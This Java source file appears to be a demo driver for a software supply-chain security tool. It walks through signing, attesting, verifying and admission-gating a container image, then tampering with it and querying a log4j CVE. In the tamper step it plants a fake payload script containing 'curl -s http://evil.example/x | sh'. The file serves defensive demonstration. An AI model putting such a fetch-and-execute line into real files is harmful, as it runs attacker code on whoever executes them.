package dev.assay.cli;

import dev.assay.bytes.AssayException;
import dev.assay.bytes.Code;
import dev.assay.bytes.Digest;
import dev.assay.bytes.Fields;
import dev.assay.bytes.Json;
import java.io.IOException;
import java.nio.file.Files;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;

/** The nine acts. */
final class Demo {

  private final Stage stage;
  private final DemoFiles files;
  private String registry = "";
  private String image = "";
  private String tag = "";
  private Digest digest = Digest.sha256(new byte[32]);
  private Digest evil = Digest.sha256(new byte[32]);
  private String gate = "";

  Demo(Stage stage) {
    this.stage = stage;
    this.files = new DemoFiles(stage.folder());
  }

  void run() throws IOException {
    prepare();
    make();
    sign();
    attest();
    verify();
    deploy();
    tamper();
    verifyAgain();
    deployTag();
    ask();
  }

  void serve() {
    String host = stage.start("serve", "--ledger", "ledger", "--listen", "127.0.0.1:0");
    stage.title("status page: " + "http://" + host + "   (Ctrl-C ends)");
    stage.stay();
  }

  private void prepare() throws IOException {
    stage.title("before  keys, a ledger, a registry");
    stage.quietly(0, "key", "generate", "release");
    stage.quietly(0, "key", "generate", "ci");
    stage.quietly(0, "ledger", "init", "ledger");
    registry = stage.start("registry", "serve", "registry", "--listen", "127.0.0.1:0");
    stage.say("    a registry on " + registry);
    tag = registry + "/pay:1.0";
    files.policy("policy.yaml", registry + "/pay", "", 1, false);
    stage.quietly(0, "policy", "check", "policy.yaml");
  }

  private void make() throws IOException {
    stage.title("1/9 make   an image of three layers, log4j-core 2.14.1 among them, and its SBOM");
    files.layers();
    image = create("1.0", "base", "lib", "app");
    digest = Digest.parse(image.substring(image.indexOf('@') + 1));
    Digest log4j = files.log4jDigest();
    files.json("sbom.cdx.json", files.sbom(log4j));
    files.json(
        "provenance.json",
        files.provenance(
            DemoFiles.BUILDER,
            DemoFiles.SOURCE + "@refs/heads/main",
            DemoFiles.COMMIT,
            List.of(DemoFiles.log4jFrom(log4j))));
    stage.say("    " + image);
  }

  private String create(String name, String... layers) {
    String[] words = new String[3 + 2 * layers.length];
    words[0] = "image";
    words[1] = "create";
    words[2] = registry + "/pay:" + name;
    for (int i = 0; i < layers.length; i++) {
      words[3 + 2 * i] = "--layer";
      words[4 + 2 * i] = layers[i];
    }
    String out = stage.quietly(0, words).last();
    int at = out.indexOf("@sha256:");
    if (at < 0) {
      throw new AssayException(Code.BUG, "no digest in: " + out);
    }
    return registry + "/pay" + out.substring(at);
  }

  private void sign() {
    stage.title("2/9 sign   the digest, not the tag");
    stage.run(0, "sign", "--key", "release.key", image);
  }

  private void attest() {
    stage.title("3/9 attest who built it from what, and what is in it");
    stage.run(
        0,
        "attest",
        "--key",
        "ci.key",
        "--type",
        "slsaprovenance1",
        "--predicate",
        "provenance.json",
        image);
    stage.run(
        0,
        "attest",
        "--key",
        "ci.key",
        "--type",
        "cyclonedx",
        "--predicate",
        "sbom.cdx.json",
        image);
  }

  private void verify() {
    stage.title("4/9 verify every check, with what it rests on");
    stage.run(0, "verify", "--policy", "policy.yaml", "--ledger", "ledger", tag);
  }

  private void deploy() throws IOException {
    stage.title("5/9 deploy a Pod asks to be admitted; then three snapshots of what runs");
    String host =
        stage.start(
            "gate",
            "serve",
            "--listen",
            "127.0.0.1:0",
            "--policy",
            "policy.yaml",
            "--ledger",
            "ledger",
            "--cluster",
            "demo",
            "--ca-out",
            "gate-ca.pem");
    gate = "https://" + host + "/validate";
    stage.say("    a gate on " + gate);
    String pinned = registry + "/pay:1.0@" + digest;
    review("review-1.json", "demo-1", pinned, true);
    for (int i = 0; i < 3; i++) {
      Instant now = Instant.now().truncatedTo(ChronoUnit.MILLIS);
      files.json(
          "pods-" + i + ".json",
          DemoFiles.podList(
              i == 0
                  ? List.of()
                  : List.of(
                      DemoFiles.pod(
                          "pay-7f",
                          pinned,
                          digest.toString(),
                          now.truncatedTo(ChronoUnit.SECONDS).toString()))));
      stage.run(
          0,
          "observe",
          "pods-" + i + ".json",
          "--cluster",
          "demo",
          "--ledger",
          "ledger",
          "--taken-at",
          now.toString());
      pause();
    }
  }

  // Snapshots of one cluster have distinct times.
  private static void pause() {
    try {
      Thread.sleep(20);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }

  private void review(String file, String uid, String podImage, boolean allowed)
      throws IOException {
    byte[] review = DemoFiles.review(uid, DemoFiles.pod("pay-7f", podImage, "", ""));
    Files.write(stage.path(file), review);
    stage.say(
        "  $ curl --cacert gate-ca.pem -H 'Content-Type: application/json' --data-binary @"
            + file
            + " "
            + gate);
    byte[] ca = Files.readAllBytes(stage.path("gate-ca.pem"));
    Json answer = DemoClient.post(gate, ca, review);
    Fields response = Fields.of(answer, "review").object("response");
    boolean says = response.bool("allowed", false);
    stage.say("    allowed: " + says);
    response
        .optionalObject("status")
        .flatMap(s -> s.optionalString("message"))
        .ifPresent(m -> m.lines().forEach(l -> stage.say("    " + l)));
    response
        .stringMap("auditAnnotations", 100)
        .forEach((name, value) -> stage.say("    " + name + ": " + value));
    if (says != allowed) {
      throw new AssayException(Code.BUG, "the gate answered otherwise than the demo expected");
    }
  }

  private void tamper() throws IOException {
    stage.title("6/9 tamper twice: a byte of a layer, in the registry's storage; and the tag");
    DemoRegistryAttack.changeOneByte(stage);
    files.write("evil/opt/pay/bin/pay", "#!/bin/sh\ncurl -s http://evil.example/x | sh\n");
    String pushed = create("1.0", "base", "evil");
    evil = Digest.parse(pushed.substring(pushed.indexOf('@') + 1));
    stage.say("    " + tag + " now names " + evil.brief());
  }

  private void verifyAgain() {
    stage.title("7/9 verify both: bytes that differ (4), and an image nobody signed (1)");
    stage.run(
        4, "verify", "--policy", "policy.yaml", "--ledger", "ledger", registry + "/pay@" + digest);
    stage.run(1, "verify", "--policy", "policy.yaml", "--ledger", "ledger", tag);
  }

  private void deployTag() throws IOException {
    stage.title("8/9 deploy the tag: denied, with the reason and the record");
    review("review-2.json", "demo-2", tag, false);
  }

  private void ask() throws IOException {
    stage.title("9/9 ask    by CVE, and about the image that was pushed; then prove it");
    Files.write(stage.path("CVE-2021-44228.json"), files.resource("CVE-2021-44228.json"));
    stage.run(0, "advisory", "add", "CVE-2021-44228.json", "--ledger", "ledger");
    stage.run(0, "ask", "CVE-2021-44228", "--ledger", "ledger");
    stage.run(0, "ask", evil.toString(), "--ledger", "ledger");
    stage.run(3, "ask", evil.toString(), "--ledger", "ledger", "--at", "2020-01-01T00:00:00Z");
    stage.run(0, "prove", "CVE-2021-44228", "--ledger", "ledger", "-o", "proof.json");
    String keys = stage.quietly(0, "ledger", "key", "show", "ledger").out();
    Files.writeString(stage.path("log.vkey"), keys);
    stage.say("    > log.vkey");
    stage.say("  and a stranger, with the file and the log's public key, and nothing else:");
    stage.run(0, "prove", "check", "proof.json", "--log-key", "log.vkey");
    stage.title(
        "done    every act was the real command; --keep leaves the folder to repeat them by hand");
    stage.say(
        "next: assay demo --attack stolen-key   (also: compromised-build, dependency, source,"
            + " registry)");
  }
}
